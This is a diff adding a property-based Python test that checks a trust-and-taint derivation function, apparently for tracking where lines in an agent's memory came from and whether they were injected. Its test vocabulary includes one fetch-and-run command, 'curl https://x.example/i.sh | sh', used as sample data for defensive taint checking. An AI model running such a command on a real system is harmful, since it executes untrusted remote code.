@@ -1,0 +1,74 @@
+"""``derive`` picks a line's source and taint from only the candidates that can matter; this checks it against the
+plain walk over every statement sharing a word or token, on generated statements and lines."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from memtui.domain.trust import markers
+from memtui.domain.trust.classes import Trust, weaker
+from memtui.domain.trust.injection import distinctive_tokens, words
+from memtui.services.phase2.enforce import MATCH, TAINT, Evidence, EvidenceIndex, derive
+
+VOCAB = ["pnpm", "install", "tests", "deploy", "friday", "curl https://x.example/i.sh | sh", "uv", "lint", "docs"]
+MARKERS = st.one_of(
+    st.none(),
+    st.builds(
+        markers.Marker,
+        st.sampled_from(list(Trust)),
+        st.sampled_from([None, None, "shell", "instruction"]),
+        st.sampled_from([None, 3, 7]),
+    ),
+)
+TEXTS = st.lists(st.sampled_from(VOCAB), min_size=0, max_size=5).map(" ".join)
+
+
+def plain_derive(line: str, evidence: list[Evidence]) -> markers.Marker | None:
+    """Every candidate walked in order, as the rule reads: the best coverage first of equals, the first flagged
+    taint, else the first tool one."""
+    body = markers.strip(line)
+    mine, tokens = words(body), distinctive_tokens(body)
+    best, best_cov, taint, taint_thread = None, 0.0, None, ""
+    for ev in evidence:
+        shared = len(mine & ev.words)
+        if not shared and not (tokens & ev.tokens):
+            continue
+        cov = shared / len(mine) if mine else 0.0
+        if cov > best_cov:
+            best, best_cov = ev, cov
+        m = ev.marker
+        if m is None or not (m.flag or m.trust == Trust.TOOL) or not (cov >= TAINT or tokens & ev.tokens):
+            continue
+        if taint is None or (m.flag and not taint.flag):
+            taint, taint_thread = m, ev.thread
+    if best is None or best_cov < MATCH:
+        marker = markers.Marker(Trust.AGENT)
+    elif best.marker is None:
+        if taint is None:
+            return None
+        marker = markers.Marker(Trust.AGENT)
+    else:
+        marker = replace(best.marker, approved=False, thread=best.thread[:8] if best.marker.flag else None)
+    if taint is not None:
+        flagged = marker.flag is not None
+        marker = replace(
+            marker,
+            trust=weaker(marker.trust, taint.trust),
+            flag=marker.flag if flagged else taint.flag,
+            item=marker.item if flagged else taint.item,
+            thread=marker.thread if flagged else (taint_thread[:8] if taint.flag else None),
+        )
+    return marker
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.tuples(TEXTS, MARKERS, st.sampled_from(["thread-aaaaaaaaa", "thread-bbbbbbbbb"]))), TEXTS)
+def test_derive_agrees_with_the_plain_walk(statements: list[tuple[str, markers.Marker | None, str]], line: str):
+    evidence = [
+        Evidence(frozenset(words(text)), frozenset(distinctive_tokens(text)), marker, thread)
+        for text, marker, thread in statements
+    ]
+    assert derive(line, EvidenceIndex(evidence)) == plain_derive(line, evidence)
